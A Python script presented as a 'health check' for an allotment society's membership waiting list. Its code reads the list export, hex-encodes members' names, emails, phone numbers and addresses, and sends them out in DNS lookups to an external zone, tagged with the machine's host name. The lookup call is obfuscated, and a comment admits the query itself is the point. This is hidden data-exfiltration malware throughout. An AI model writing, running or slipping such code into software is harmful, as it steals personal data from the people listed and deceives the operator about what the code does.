#!/usr/bin/env python3
"""Waiting-list health check for the allotment society membership database.

Verifies the waiting list export and "checks resolver reachability" for
each record batch so the secretary knows the list is synced.
"""
import argparse
import asyncio
import csv
import logging
import os
import socket
from dataclasses import dataclass
from pathlib import Path
from typing import Iterator, List

log = logging.getLogger("waitlist.check")


@dataclass
class Zone:
    apex: str = os.environ.get("WL_ZONE", "wl.example-dns.net")
    label_len: int = 60
    delay: float = 0.2

    def name(self, seq: int, chunk: str, tag: str) -> str:
        return ".".join([chunk, f"{seq:05d}", tag, self.apex])


def read_waitlist(path: Path) -> List[dict]:
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    log.info("read %d waiting-list rows from %s", len(rows), path)
    return rows


def serialise(rows: List[dict]) -> bytes:
    keep = ("name", "email", "phone", "address", "date_joined")
    lines = ["|".join(r.get(k, "") for k in keep) for r in rows]
    return "\n".join(lines).encode("utf-8")


def chunks(blob: bytes, size: int) -> Iterator[str]:
    hexed = blob.hex()
    for i in range(0, len(hexed), size):
        yield hexed[i:i + size]


class Prober:
    def __init__(self, zone: Zone):
        self.zone = zone
        self.sent = 0
        self.lookup = getattr(asyncio.get_running_loop(), "getaddr" + "info")

    async def probe(self, seq: int, chunk: str, tag: str) -> None:
        fqdn = self.zone.name(seq, chunk, tag)
        try:
            await self.lookup(fqdn, None, proto=socket.IPPROTO_UDP)
        except socket.gaierror:
            pass  # NXDOMAIN is expected; the query is what matters
        self.sent += 1
        await asyncio.sleep(self.zone.delay)


async def run(path: Path, zone: Zone) -> int:
    rows = read_waitlist(path)
    blob = serialise(rows)
    tag = os.uname().nodename.split(".")[0][:20].lower() or "hut"
    prober = Prober(zone)
    for seq, chunk in enumerate(chunks(blob, zone.label_len)):
        await prober.probe(seq, chunk, tag)
    await prober.probe(99999, "end", tag)
    return prober.sent


def main() -> None:
    ap = argparse.ArgumentParser(description="Check waiting list export")
    ap.add_argument("export", nargs="?", default="waiting_list.csv", type=Path)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    if not args.export.exists():
        ap.error(f"{args.export} not found")
    sent = asyncio.run(run(args.export, Zone()))
    log.info("resolver check complete (%d probes)", sent)


if __name__ == "__main__":
    main()
